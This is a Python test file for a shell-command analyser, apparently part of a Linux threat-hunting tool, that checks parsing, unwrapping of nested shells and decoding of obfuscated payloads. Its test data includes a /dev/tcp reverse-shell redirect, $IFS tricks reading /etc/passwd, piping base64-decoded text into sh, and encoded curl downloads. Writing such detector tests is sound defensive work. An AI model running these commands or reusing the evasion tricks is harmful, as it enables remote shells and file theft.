"""Shell text is read as a shell reads it; steps look through wrappers and nested shells."""

from __future__ import annotations

import base64
import gzip

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from linuxhunt.sections.decode import payloads
from linuxhunt.sections.shell import read
from linuxhunt.sections.steps import steps_of

ID = base64.b64encode(b"id; whoami > /tmp/x").decode()
PACKED = base64.b64encode(gzip.compress(b"curl 203.0.113.9/x", mtime=0)).decode()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("""c"u"rl -s 'a b'""", [["curl", "-s", "a b"]], id="quotes"),
        pytest.param(r"w\ho a\ b", [["who", "a b"]], id="backslashes"),
        pytest.param(r"$'\x69\144' x", [["id", "x"]], id="escapes"),
        pytest.param("x=cu;y=rl;$x${y} z", [[], [], ["curl", "z"]], id="variables"),
        pytest.param("cat$IFS/etc/passwd", [["cat", "/etc/passwd"]], id="IFS"),
        pytest.param("cat${IFS}/etc/passwd", [["cat", "/etc/passwd"]], id="IFS in braces"),
        pytest.param("w$@hoami", [["whoami"]], id="empty variable"),
        pytest.param("{curl,-s,x}", [["curl", "-s", "x"]], id="braces"),
        pytest.param(
            "a; b && c || d & e\nf", [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]], id="lists"
        ),
        pytest.param("if a; then b; else c; fi", [["a"], ["b"], ["c"]], id="if"),
        pytest.param("while true; do a; done", [["true"], ["a"]], id="while"),
        pytest.param("a # b; c", [["a"]], id="comment"),
        pytest.param("a 'b", [["a", "b"]], id="quote that is not closed"),
        pytest.param("a $(b $(c)) d", [["a", "$(b $(c))", "d"]], id="substitution"),
        pytest.param("cat <<E\nx; y\nE\nz", [["cat"], ["z"]], id="here-document"),
        pytest.param("echo $((1 + 2))", [["echo", "$((1 + 2))"]], id="arithmetic"),
        pytest.param("", [], id="empty"),
    ],
)
def test_words(text: str, expected: list[list[str]]) -> None:
    assert [command.words for command in read(text)] == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        pytest.param("a > f 2>&1 < g", [(">", "f"), ("<", "g")], id="files"),
        pytest.param("a >>f 2>/dev/null", [(">>", "f"), (">", "/dev/null")], id="append"),
        pytest.param("a &> f", [(">", "f")], id="both"),
        pytest.param("sh <&5 >&5", [("<&", "5"), (">&", "5")], id="numbers"),
        pytest.param("bash -i >& /dev/tcp/h/1", [(">&", "/dev/tcp/h/1")], id="network"),
        pytest.param("sh <<< 'a b'", [("<<<", "a b")], id="here-string"),
    ],
)
def test_redirects(text: str, expected: list[tuple[str, str]]) -> None:
    (command,) = read(text)
    assert command.redirects == expected


@pytest.mark.parametrize(
    ("text", "pipelines"),
    [
        pytest.param("a | b | c; d", [0, 0, 0, 1], id="pipe and list"),
        pytest.param("(a; b) | c", [0, 0, 0], id="brackets into a pipe"),
        pytest.param("{ a; b; } | c; d", [0, 0, 0, 1], id="braces into a pipe"),
    ],
)
def test_pipelines(text: str, pipelines: list[int]) -> None:
    numbers = [command.pipeline for command in read(text)]
    assert [sorted(set(numbers)).index(number) for number in numbers] == pipelines


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        pytest.param(["/usr/bin/id"], ["id"], id="path"),
        pytest.param(["-bash"], ["bash"], id="login shell"),
        pytest.param(["python3.11", "x.py"], ["python x.py", "x.py"], id="version"),
        pytest.param(
            ["sudo", "-u", "bob", "env", "A=b", "nohup", "id"],
            ["sudo -u bob env A=b nohup id", "env A=b nohup id", "nohup id", "id"],
            id="wrappers",
        ),
        pytest.param(
            ["timeout", "-k", "3", "5", "id", "-u"],
            ["timeout -k 3 5 id -u", "id -u"],
            id="wrapper with operands",
        ),
        pytest.param(["sh", "-c", "id; w"], ["sh -c id;␣w", "id", "w"], id="nested shell"),
        pytest.param(
            ["find", ".", "-exec", "rm", "{}", ";"], ["find . -exec rm {} ;", "rm {}"], id="find"
        ),
        pytest.param(
            ["python3", "-c", "import os;os.system('id')"],
            ["python -c import␣os;os.system('id')", "id"],
            id="os.system",
        ),
        pytest.param(
            ["sh", "-c", f"echo {ID} | base64 -d | sh"],
            [
                f"sh -c echo␣{ID}␣|␣base64␣-d␣|␣sh",
                f"echo {ID}",
                "base64 -d",
                "sh",
                "(decoded) id;␣whoami␣>␣/tmp/x",
                "id",
                "whoami >/tmp/x",
            ],
            id="payload",
        ),
        pytest.param(
            ["sh", "-c", "echo x | sudo tee -a /etc/f"],
            [
                "sh -c echo␣x␣|␣sudo␣tee␣-a␣/etc/f",
                "echo x",
                "sudo tee -a /etc/f",
                "echo x >>/etc/f",
                "tee -a /etc/f",
            ],
            id="tee is a redirection",
        ),
        pytest.param(
            ["git", "commit", "-m", "curl x | sh"], ["git commit -m curl␣x␣|␣sh"], id="only a text"
        ),
    ],
)
def test_steps(argv: list[str], expected: list[str]) -> None:
    assert [step.line for step in steps_of(" ".join(argv), argv, is_script=False)] == expected


def test_text_without_quotes_is_put_together_behind_a_shells_option() -> None:
    steps = steps_of("/bin/sh -c id; whoami > /tmp/x", None, is_script=False)
    assert [step.line for step in steps] == [
        "sh -c id;␣whoami␣>␣/tmp/x", "id", "whoami >/tmp/x",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        pytest.param(f"echo {ID} ¦ base64 -d", ["id; whoami > /tmp/x"], id="base64"),
        pytest.param(
            "base64 -d <<<" + base64.b64encode(ID.encode()).decode(),
            [ID, "id; whoami > /tmp/x"], id="twice",
        ),
        pytest.param(f"echo {PACKED} ¦ base64 -d ¦ gunzip", ["curl 203.0.113.9/x"], id="gzip"),
        pytest.param("echo 69643b772d61 ¦ xxd -r -p", ["id;w-a"], id="hexadecimal"),
        pytest.param(r"printf \x69\x64\x3b\x77", ["id;w"], id="escapes"),
        pytest.param(r"printf \151\144\073\167", ["id;w"], id="octal"),
        pytest.param("echo imaohw ¦ rev", ["whoami"], id="reversed"),
        pytest.param("echo hello ¦ base64", [], id="encoding is not decoding"),
        pytest.param("echo /usr/share/doc/base64", [], id="paths are none"),
        pytest.param("cat AAAAAAAAAAAA", [], id="nothing decodes"),
        pytest.param("base64 -d <<<//////////////8=", [], id="not text"),
    ],
)  # fmt: skip
def test_payloads(line: str, expected: list[str]) -> None:
    assert payloads(line) == expected


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="ab$'\"`\\(){}<>|;&= \n!#*x69-eE,", max_size=80))
def test_any_text_is_read_to_its_end(text: str) -> None:
    steps = steps_of(text, None, is_script=True)
    assert len(steps) <= 400
    assert steps == steps_of(text, None, is_script=True)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("$(" * 20_000, id="brackets"),
        pytest.param("`" * 40_000, id="backticks"),
        pytest.param("sh -c '" * 10_000, id="shells"),
        pytest.param("sudo " * 20_000 + "id", id="wrappers"),
        pytest.param("{" * 50_000, id="braces"),
        pytest.param("echo " + "A" * 200_000 + " | base64 -d", id="a long payload"),
        pytest.param("a|" * 50_000, id="pipes"),
        pytest.param("<<x\n" * 20_000, id="here-documents"),
    ],
)
def test_what_is_made_to_be_slow_is_bounded(text: str) -> None:
    assert len(steps_of(text, None, is_script=True)) <= 400
